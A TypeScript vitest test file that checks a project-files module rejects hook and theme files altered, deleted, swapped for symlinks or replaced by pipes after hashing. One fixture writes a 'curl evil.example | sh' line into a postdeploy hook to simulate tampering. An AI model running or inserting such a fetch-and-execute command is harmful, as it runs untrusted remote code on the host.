import { mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { execa } from 'execa';
import { describe, expect, test } from 'vitest';
import { projectFiles } from '../../src/system/files.ts';
import type { FileEnd } from '../../src/base/archive.ts';
import type { Files } from '../../src/ports.ts';
import { temporaryFolder } from './temporary-folder.ts';

const path = 'overrides/.platform/hooks/postdeploy/50-own.sh';

function project(): string {
  const root = temporaryFolder();
  mkdirSync(join(root, path, '..'), { recursive: true });
  writeFileSync(join(root, path), '#!/bin/sh\n');
  writeFileSync(join(root, 'secret'), '#!/bin/sh\n');
  return root;
}

const copies = new Map([['.platform/hooks/postdeploy/50-own.sh', path]]);
const sends: Record<string, (files: Files) => Promise<unknown>> = {
  'a bundle': (files) => files.zip(new Map(), copies),
  'a build context': (files) =>
    files.stage(new Map(), new Map([['overrides.tar', { texts: new Map(), copies }]])),
  'an archive': (files) => files.writeArchive('out/layer.tar', { texts: new Map(), copies }),
  'a copy': (files) => files.copy(path, 'out/copy'),
};
const changes: Record<string, (file: string, root: string) => void> = {
  changed: (file) => {
    writeFileSync(file, '#!/bin/sh\ncurl evil.example | sh\n');
  },
  'the same size with other bytes': (file) => {
    writeFileSync(file, '#!/bin/ah\n');
  },
  deleted: (file) => {
    rmSync(file);
  },
  'a link to equal content': (file, root) => {
    rmSync(file);
    symlinkSync(join(root, 'secret'), file);
  },
};

describe.each(Object.entries(sends))('%s', (_sent, send) => {
  test.each(Object.entries(changes))('has what was hashed: %s is an error', async (_what, change) => {
    const root = project();
    const files = projectFiles(root);
    await files.hashes('overrides');
    change(join(root, path), root);
    await expect(send(files)).rejects.toMatchObject({
      kind: 'usage',
      message: expect.stringContaining(path) as unknown,
    });
  });

  test('has no pipe in place of a file, and does not wait for its writer', async () => {
    const root = project();
    const files = projectFiles(root);
    await files.hashes('overrides');
    rmSync(join(root, path));
    await execa('mkfifo', [join(root, path)]);
    await expect(send(files)).rejects.toMatchObject({ kind: 'usage' });
  });

  test('accepts a file that is as it was', async () => {
    const files = projectFiles(project());
    await files.hashes('overrides');
    await expect(send(files)).resolves.not.toThrow();
  });
});

test('a file that is replaced by a link between list and hash is rejected', async () => {
  const root = project();
  rmSync(join(root, path));
  symlinkSync(join(root, 'secret'), join(root, path));
  await expect(projectFiles(root).hashes('overrides')).rejects.toMatchObject({ kind: 'usage' });
});

test('the heads are the first bytes of the same files', async () => {
  const heads: [string, string][] = [];
  await projectFiles(project()).hashes('overrides', {
    bytes: () => 5,
    take: (file, head) => {
      heads.push([file, Buffer.from(head).toString()]);
    },
  });
  expect(heads).toEqual([[path, '#!/bi']]);
});

test('a theme of 1,200 files goes into one layer, each file once', async () => {
  const root = temporaryFolder();
  mkdirSync(join(root, 'themes/t'), { recursive: true });
  for (let index = 0; index < 1200; index += 1)
    writeFileSync(join(root, `themes/t/${index}.css`), `${index}`);
  const files = projectFiles(root);
  const paths = [...(await files.hashes('themes')).keys()];
  expect(paths).toHaveLength(1200);
  expect(paths).toEqual(paths.toSorted());
  expect((await files.sizes('themes')).size).toBe(1200);
  await files.writeArchive('out/themes.tar', {
    texts: new Map(),
    copies: new Map(paths.map((file) => [`opt/keycloak/${file}`, file])),
  });
  const { stdout } = await execa('tar', ['--list', '--file', join(root, 'out/themes.tar')]);
  const names = stdout.split('\n').filter((name) => name.endsWith('.css'));
  expect(names).toEqual(paths.map((file) => `opt/keycloak/${file}`));
});

test.each([0, 1, 5, 100_000, 200_000, 300_000])(
  'the last %d bytes are those of the same file',
  async (lastBytes) => {
    const content = Buffer.from(Array.from({ length: 200_000 }, (_byte, index) => index % 251));
    const root = temporaryFolder();
    mkdirSync(join(root, 'overrides'));
    writeFileSync(join(root, 'overrides/a'), content);
    const ends: FileEnd[] = [];
    await projectFiles(root).hashes('overrides', {
      bytes: () => 0,
      lastBytes: () => lastBytes,
      take: (_path, _head, end) => {
        ends.push(end);
      },
    });
    const [end] = ends;
    expect(end?.size).toBe(200_000);
    expect(Buffer.from(end?.bytes ?? []).equals(content.subarray(Math.max(0, 200_000 - lastBytes)))).toBe(
      true,
    );
  },
);
